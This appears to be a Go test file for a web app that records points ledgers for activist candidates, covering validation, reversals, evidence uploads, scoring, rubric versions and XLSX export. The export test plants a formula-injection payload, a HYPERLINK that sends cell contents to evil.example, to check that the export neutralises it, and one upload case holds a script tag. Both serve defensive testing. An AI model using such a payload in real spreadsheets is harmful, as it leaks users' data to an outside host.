package web

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"seedling/internal/seedling"
)

type ledgerFixture struct {
	app                 *testApp
	sec, sec2, activist string
	committee, admin    string
	a, a2, b            int64 // activist-a, branch-a-03 (both branch A), branch-b-01
	orgA, orgB          int64
	today               string
}

func newLedgerFixture(t testing.TB) *ledgerFixture {
	t.Helper()
	app := newTestApp(t)
	ctx := t.Context()
	id := func(code string) int64 {
		c, err := app.db.Candidates().ByCode(ctx, code)
		if err != nil {
			t.Fatal(err)
		}
		return c.ID
	}
	org := func(code string) int64 {
		o, err := app.db.Orgs().ByCode(ctx, code)
		if err != nil {
			t.Fatal(err)
		}
		return o.ID
	}
	return &ledgerFixture{app: app, sec: app.login("secretary"), sec2: app.login("secretary2"), activist: app.login("activist"),
		committee: app.login("committee"), admin: app.login("admin"),
		a: id("activist-a"), a2: id("branch-a-03"), b: id("branch-b-01"), orgA: org("branch-a"), orgB: org("branch-b"),
		today: seedling.Today(time.Now()).Format(seedling.DateLayout)}
}

func (f *ledgerFixture) count(t *testing.T) int {
	t.Helper()
	var n int
	if err := f.app.db.GetContext(t.Context(), &n, `SELECT count(*) FROM ledger_entries`); err != nil {
		t.Fatal(err)
	}
	return n
}

func (f *ledgerFixture) record(t *testing.T, cand int64, key string, body map[string]any) response {
	t.Helper()
	return f.app.call("POST", fmt.Sprintf("/api/v1/candidates/%d/ledger", cand), f.sec, body, "Idempotency-Key", key)
}

func entry(cat string, points int, on, desc string) map[string]any {
	return map[string]any{"category": cat, "points": points, "occurred_on": on, "description": desc}
}

func num(v any) int64 { f, _ := v.(float64); return int64(f) }

// Recording is idempotent: the same key and body give the same entry and
// write nothing; the same key with another body is 422; no key is 400.
func TestRecordEntryIsIdempotent(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	body := entry("task_completion", 5, f.today, "完成入户走访")
	r := f.record(t, f.a, "visit-1", body)
	expectStatus(t, r, 201)
	first := r.JSON(t)
	if first["category"] != "task_completion" || num(first["points"]) != 5 || first["period"] == "" || first["recorded_by"] != "secretary" || first["reverses"] != nil {
		t.Fatalf("entry: %v", first)
	}
	before := f.count(t)
	r = f.record(t, f.a, "visit-1", body)
	expectStatus(t, r, 201)
	if r.Header.Get("Idempotent-Replayed") != "true" || num(r.JSON(t)["id"]) != num(first["id"]) || f.count(t) != before {
		t.Fatalf("replay: %s %v, rows %d → %d", r.Header.Get("Idempotent-Replayed"), r.JSON(t)["id"], before, f.count(t))
	}
	r = f.record(t, f.a, "visit-1", entry("task_completion", 6, f.today, "完成入户走访"))
	expectStatus(t, r, 422)
	if _, ok := fieldErrors(t, r)["Idempotency-Key"]; !ok {
		t.Fatalf("mismatch: %s", r.Body)
	}
	r = f.app.call("POST", fmt.Sprintf("/api/v1/candidates/%d/ledger", f.a), f.sec, body)
	expectStatus(t, r, 400)
	if _, ok := fieldErrors(t, r)["Idempotency-Key"]; !ok {
		t.Fatalf("no key: %s", r.Body)
	}
	if f.count(t) != before {
		t.Fatal("a refused request wrote a row")
	}
}

// Every kind of bad input is refused at its field, and nothing is written.
func TestRecordEntryRefusesBadInput(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	tomorrow := seedling.Today(time.Now()).AddDate(0, 0, 1).Format(seedling.DateLayout)
	cases := []struct {
		name   string
		cand   int64
		token  string
		body   any
		status int
		field  string
	}{
		{"points over the per-entry limit", f.a, f.sec, entry("task_completion", 11, f.today, "x"), 422, "points"},
		{"positive points for a deduction", f.a, f.sec, entry("deduction", 3, f.today, "x"), 422, "points"},
		{"unknown category", f.a, f.sec, entry("heroism", 5, f.today, "x"), 400, "category"},
		{"date in the future", f.a, f.sec, entry("task_completion", 5, tomorrow, "x"), 422, "occurred_on"},
		{"date before becoming an activist", f.a, f.sec, entry("task_completion", 5, "2025-09-14", "x"), 422, "occurred_on"},
		{"not a date", f.a, f.sec, entry("task_completion", 5, "26.11.2026", "x"), 400, "occurred_on"},
		{"points not a whole number", f.a, f.sec, `{"category":"task_completion","points":2.5,"occurred_on":"2026-11-20","description":"x"}`, 400, "points"},
		{"no description", f.a, f.sec, entry("task_completion", 5, f.today, " "), 400, "description"},
		{"unknown field", f.a, f.sec, `{"category":"task_completion","points":2,"occurred_on":"2026-11-20","description":"x","bonus":1}`, 400, "bonus"},
		{"candidate outside the secretary's branch", f.b, f.sec, entry("task_completion", 5, f.today, "x"), 404, ""},
		{"committee may only read", f.a, f.committee, entry("task_completion", 5, f.today, "x"), 403, ""},
		{"an activist cannot book their own points", f.a, f.activist, entry("task_completion", 5, f.today, "x"), 403, ""},
	}
	before := f.count(t)
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := f.app.call("POST", fmt.Sprintf("/api/v1/candidates/%d/ledger", c.cand), c.token, c.body, "Idempotency-Key", fmt.Sprintf("bad-%d", i))
			expectStatus(t, r, c.status)
			if c.field != "" {
				if _, ok := fieldErrors(t, r)[c.field]; !ok {
					t.Fatalf("no error at %s: %s", c.field, r.Body)
				}
			}
		})
	}
	r := f.app.call("POST", fmt.Sprintf("/api/v1/candidates/%d/ledger", f.a), f.sec, nil, "Idempotency-Key", "ct", "Content-Type", "text/plain")
	expectStatus(t, r, 415)
	if f.count(t) != before {
		t.Fatalf("%d rows written by refused requests", f.count(t)-before)
	}
}

// A reversal negates the entry and points back at it; an entry is reversed
// once, and a reversal never; the score follows.
func TestReverseEntry(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	score := func() int64 {
		r := f.app.call("GET", fmt.Sprintf("/api/v1/candidates/%d/score", f.a2), f.sec, nil)
		expectStatus(t, r, 200)
		return num(r.JSON(t)["score"].(map[string]any)["total"])
	}
	start := score()
	r := f.record(t, f.a2, "k1", entry("activity_conduct", 3, f.today, "参加义务劳动"))
	expectStatus(t, r, 201)
	id := num(r.JSON(t)["id"])
	if got := score(); got != min(start+3, 100) {
		t.Fatalf("score %d after +3 from %d", got, start)
	}
	r = f.app.call("POST", fmt.Sprintf("/api/v1/ledger/%d/reverse", id), f.sec, map[string]any{"reason": "重复录入"})
	expectStatus(t, r, 201)
	rev := r.JSON(t)
	if num(rev["reverses"]) != id || num(rev["points"]) != -3 || rev["kind"] != "reversal" || rev["reason"] != "重复录入" {
		t.Fatalf("reversal: %v", rev)
	}
	if got := score(); got != start {
		t.Fatalf("score %d after the reversal, want %d", got, start)
	}
	expectStatus(t, f.app.call("POST", fmt.Sprintf("/api/v1/ledger/%d/reverse", id), f.sec, map[string]any{"reason": "再冲一次"}), 409)
	expectStatus(t, f.app.call("POST", fmt.Sprintf("/api/v1/ledger/%d/reverse", num(rev["id"])), f.sec, map[string]any{"reason": "冲销冲销"}), 422)
	r = f.app.call("POST", fmt.Sprintf("/api/v1/ledger/%d/reverse", id), f.sec, map[string]any{"reason": ""})
	expectStatus(t, r, 400)

	r = f.app.call("GET", fmt.Sprintf("/api/v1/candidates/%d/ledger", f.a2), f.sec, nil)
	expectStatus(t, r, 200)
	var found bool
	for _, e := range r.JSON(t)["entries"].([]any) {
		m := e.(map[string]any)
		if num(m["id"]) == id {
			found = num(m["reversed_by"]) == num(rev["id"])
		}
	}
	if !found {
		t.Fatal("the ledger does not show the entry as reversed")
	}
}

// Evidence: a photo is stored under its hash and served as an attachment
// to those who may see it; a disguised executable, an oversized file and a
// missing file are refused, and nothing of them is stored.
func TestEvidenceUploadAndDownload(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	r := f.record(t, f.a, "with-photo", entry("critical_moment", 6, f.today, "防汛值守"))
	expectStatus(t, r, 201)
	id := num(r.JSON(t)["id"])
	path := fmt.Sprintf("/api/v1/ledger/%d/evidence", id)

	r = f.app.upload(path, f.sec, false, nil, "file", "值守照片.jpg", jpegBytes)
	expectStatus(t, r, 201)
	ev := r.JSON(t)
	if ev["content_type"] != "image/jpeg" || ev["name"] != "值守照片.jpg" || num(ev["size"]) != int64(len(jpegBytes)) || len(ev["sha256"].(string)) != 64 {
		t.Fatalf("evidence: %v", ev)
	}
	stored := filepath.Join(f.app.storeDir(), ev["sha256"].(string)[:2], ev["sha256"].(string))
	if b, err := os.ReadFile(stored); err != nil || !bytes.Equal(b, jpegBytes) {
		t.Fatalf("stored file: %v", err)
	}
	// The same file again is the same record.
	r = f.app.upload(path, f.sec, false, nil, "file", "again.jpg", jpegBytes)
	expectStatus(t, r, 200)
	if num(r.JSON(t)["id"]) != num(ev["id"]) {
		t.Fatal("the same file was recorded twice")
	}
	expectStatus(t, f.app.upload(path, f.sec, false, nil, "file", "报告.pdf", pdfBytes), 201)
	expectStatus(t, f.app.upload(path, f.sec, false, nil, "file", "photo.png", pngBytes), 201)

	before := storedFiles(t, f.app.storeDir())
	for _, c := range []struct {
		name, file string
		data       []byte
		status     int
	}{
		{"an executable called .pdf", "申请书.pdf", exeBytes, 415},
		{"an ELF binary called .jpg", "photo.jpg", elfBytes, 415},
		{"a script", "a.html", []byte("<html><script>alert(1)</script></html>"), 415},
		{"an empty file", "empty.jpg", nil, 400},
	} {
		r := f.app.upload(path, f.sec, false, nil, "file", c.file, c.data)
		expectStatus(t, r, c.status)
		if _, ok := fieldErrors(t, r)["file"]; !ok {
			t.Errorf("%s: no error at file: %s", c.name, r.Body)
		}
	}
	expectStatus(t, f.app.upload(path, f.sec, false, map[string]string{"x": "y"}, "", "", nil), 400)
	expectStatus(t, f.app.call("POST", path, f.sec, map[string]any{}), 415)

	// Over the limit: refused by the handler when the body is within the
	// route's allowance, and by the server before reading when it is not.
	f.app.srv.cfg.EvidenceMaxBytes = 4 << 10
	big := append(append([]byte{}, jpegBytes...), make([]byte, 8<<10)...)
	r = f.app.upload(path, f.sec, false, nil, "file", "big.jpg", big)
	expectStatus(t, r, 413)
	// A body announced beyond the route's allowance is refused on the
	// headers alone: the server never reads it.
	r = rawPost(t, f.app.serve(), path, f.sec, 2<<20)
	if r.Status != 413 || !strings.Contains(string(r.Body), "too_large") {
		t.Fatalf("announced 2 MiB: %d %s", r.Status, r.Body)
	}
	f.app.srv.cfg.EvidenceMaxBytes = 20 << 20
	if after := storedFiles(t, f.app.storeDir()); after != before {
		t.Fatalf("refused uploads left %d files in the store", after-before)
	}

	// Downloads: an attachment with the recorded type, to those who may see it.
	dl := fmt.Sprintf("/api/v1/evidence/%d", num(ev["id"]))
	for _, who := range []string{f.sec, f.activist, f.committee, f.admin} {
		r := f.app.call("GET", dl, who, nil)
		expectStatus(t, r, 200)
		if !bytes.Equal(r.Body, jpegBytes) || r.Header.Get("Content-Type") != "image/jpeg" ||
			!strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment;") || r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Fatalf("download: %v", r.Header)
		}
	}
	expectStatus(t, f.app.call("GET", dl, f.sec2, nil), 404)
	expectStatus(t, f.app.call("GET", dl, "", nil), 401)

	// The activist sees the entry with its evidence in their ledger.
	r = f.app.call("GET", fmt.Sprintf("/api/v1/candidates/%d/ledger", f.a), f.activist, nil)
	expectStatus(t, r, 200)
	if !strings.Contains(string(r.Body), "值守照片.jpg") {
		t.Fatal("the activist's ledger lacks the evidence")
	}
}

// rawPost sends only the headers of a multipart POST announcing size bytes
// and reads the answer, over a real socket.
func rawPost(t *testing.T, base, path, token string, size int) response {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer %s\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: %d\r\n\r\n", path, token, size)
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, _ := io.ReadAll(res.Body)
	return response{Status: res.StatusCode, Header: res.Header, Body: body}
}

func storedFiles(t *testing.T, dir string) int {
	t.Helper()
	n := 0
	filepath.WalkDir(dir, func(_ string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			n++
		}
		return nil
	})
	return n
}

// The candidate endpoints carry the score: the list its total and verdict,
// one candidate the dimensions and every reason.
func TestCandidatesCarryScoreAndEligibility(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	r := f.app.call("GET", fmt.Sprintf("/api/v1/candidates/%d", f.a), f.activist, nil)
	expectStatus(t, r, 200)
	c := r.JSON(t)
	score := c["score"].(map[string]any)
	elig := c["eligibility"].(map[string]any)
	if num(score["total"]) != 76 || len(score["dimensions"].([]any)) != 4 || elig["eligible"] != false {
		t.Fatalf("activist-a: %v %v", score, elig)
	}
	if reasons := elig["reasons"].([]any); len(reasons) != 1 || reasons[0] != "还差4分" {
		t.Fatalf("reasons: %v", reasons)
	}
	d := score["dimensions"].([]any)[0].(map[string]any)
	if d["code"] != "theory_exam" || num(d["cap"]) != 25 {
		t.Fatalf("dimension: %v", d)
	}
	r = f.app.call("GET", fmt.Sprintf("/api/v1/candidates?org_id=%d", f.orgA), f.sec, nil)
	expectStatus(t, r, 200)
	seen := map[int64]map[string]any{}
	for _, x := range r.JSON(t)["candidates"].([]any) {
		m := x.(map[string]any)
		seen[num(m["id"])] = m
	}
	if num(seen[f.a]["score"]) != 76 || seen[f.a]["eligible"] != false || num(seen[f.a2]["score"]) != 84 || seen[f.a2]["eligible"] != true {
		t.Fatalf("list: %v %v", seen[f.a], seen[f.a2])
	}
}

// The rubric: anyone logged in reads it; the department adds versions from
// a quarter that has not begun; a bad draft is refused field by field.
func TestRubricVersions(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	r := f.app.call("GET", "/api/v1/rubric", f.activist, nil)
	expectStatus(t, r, 200)
	v1 := r.JSON(t)
	if num(v1["version"]) != 1 || len(v1["dimensions"].([]any)) != 4 || len(v1["categories"].([]any)) < 7 {
		t.Fatalf("rubric: %v", v1)
	}
	cat := v1["categories"].([]any)[0].(map[string]any)
	if cat["code"] == "" || cat["name"] == "" || cat["dimension"] == "" {
		t.Fatalf("category: %v", cat)
	}
	next := seedling.Today(time.Now())
	next = time.Date(next.Year(), time.Month((int(next.Month())-1)/3*3+4), 1, 0, 0, 0, 0, time.UTC)
	draft := map[string]any{"effective_from": next.Format(seedling.DateLayout), "note": "考试权重调整",
		"dimensions": v1["dimensions"], "categories": v1["categories"]}
	dims := draft["dimensions"].([]any)
	dims[0].(map[string]any)["cap"] = 20
	dims[3].(map[string]any)["cap"] = 30
	cats := v1["categories"].([]any)
	cats[0].(map[string]any)["max_points"] = 20
	expectStatus(t, f.app.call("POST", "/api/v1/rubric", f.sec, draft), 403)
	r = f.app.call("POST", "/api/v1/rubric", f.admin, draft)
	expectStatus(t, r, 201)
	if num(r.JSON(t)["version"]) != 2 {
		t.Fatalf("created: %s", r.Body)
	}
	// Still version 1 today.
	if r := f.app.call("GET", "/api/v1/rubric", f.sec, nil); num(r.JSON(t)["version"]) != 1 {
		t.Fatalf("in force today: %s", r.Body)
	}
	r = f.app.call("GET", "/api/v1/rubric?on="+next.Format(seedling.DateLayout), f.sec, nil)
	if num(r.JSON(t)["version"]) != 2 {
		t.Fatalf("in force from %s: %s", next.Format(seedling.DateLayout), r.Body)
	}
	cats[1].(map[string]any)["max_points"] = 99
	draft["effective_from"] = "2020-01-01"
	r = f.app.call("POST", "/api/v1/rubric", f.admin, draft)
	expectStatus(t, r, 422)
	fields := fieldErrors(t, r)
	if _, ok := fields["effective_from"]; !ok {
		t.Fatalf("fields: %v", fields)
	}
	if _, ok := fields["categories[1].max_points"]; !ok {
		t.Fatalf("fields: %v", fields)
	}
}

// The roster of a branch: everyone with a ledger, scored, with the keeper.
func TestRosterAndKeeper(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	r := f.app.call("GET", fmt.Sprintf("/api/v1/orgs/%d/roster", f.orgA), f.committee, nil)
	expectStatus(t, r, 200)
	body := r.JSON(t)
	if k := body["keeper"].(map[string]any); k["username"] != "secretary" {
		t.Fatalf("keeper: %v", k)
	}
	lines := body["candidates"].([]any)
	if len(lines) < 5 {
		t.Fatalf("%d lines", len(lines))
	}
	for _, l := range lines {
		m := l.(map[string]any)
		if m["score"] == nil || m["eligibility"] == nil {
			t.Fatalf("line: %v", m)
		}
	}
	secID := f.app.login("secretary") // a fresh token; the id is what matters
	_ = secID
	u, _ := f.app.db.Users().ByUsername(t.Context(), "secretary2")
	r = f.app.call("POST", fmt.Sprintf("/api/v1/orgs/%d/ledger-keeper", f.orgA), f.sec, map[string]any{"user_id": u.ID})
	expectStatus(t, r, 400) // secretary2 keeps branch B, not A
	me, _ := f.app.db.Users().ByUsername(t.Context(), "secretary")
	expectStatus(t, f.app.call("POST", fmt.Sprintf("/api/v1/orgs/%d/ledger-keeper", f.orgA), f.sec, map[string]any{"user_id": me.ID}), 200)
}

// The XLSX export holds every entry, and a description typed as a formula
// comes out as text that no spreadsheet runs.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	f := newLedgerFixture(t)
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`
	expectStatus(t, f.record(t, f.a, "evil", entry("task_completion", 2, f.today, evil)), 201)
	for _, path := range []string{fmt.Sprintf("/api/v1/candidates/%d/ledger.xlsx", f.a), fmt.Sprintf("/api/v1/orgs/%d/ledger.xlsx", f.orgA)} {
		r := f.app.call("GET", path, f.sec, nil)
		expectStatus(t, r, 200)
		if !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment;") {
			t.Fatalf("%s: %v", path, r.Header)
		}
		x, err := excelize.OpenReader(bytes.NewReader(r.Body))
		if err != nil {
			t.Fatal(err)
		}
		rows, _ := x.GetRows(x.GetSheetList()[0])
		found := false
		for _, row := range rows {
			for j, cell := range row {
				if strings.Contains(cell, "HYPERLINK") {
					found = true
					ref, _ := excelize.CoordinatesToCellName(j+1, 1)
					if cell != "'"+evil {
						t.Errorf("%s: cell %q", path, cell)
					}
					if formula, _ := x.GetCellFormula(x.GetSheetList()[0], ref); formula != "" {
						t.Errorf("a formula was written: %q", formula)
					}
				}
			}
		}
		if !found || len(rows) < 10 {
			t.Fatalf("%s: %d rows, formula row found %v", path, len(rows), found)
		}
		x.Close()
	}
}
